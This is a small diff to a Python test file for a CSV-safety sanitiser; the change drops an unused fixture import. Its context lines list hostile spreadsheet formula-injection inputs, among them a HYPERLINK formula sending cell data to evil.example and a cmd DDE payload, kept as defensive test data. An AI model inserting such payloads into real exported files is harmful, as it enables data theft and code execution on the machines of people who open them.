@@ -14,7 +14,6 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from rose_core.common.csv_safety import formula_like, frame_bytes, harness_tsv_bytes, neutralise
-from tests.sgp_players import sgp_small  # noqa: F401  (the fixture)
 
 ROOT = Path(__file__).resolve().parents[3]
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
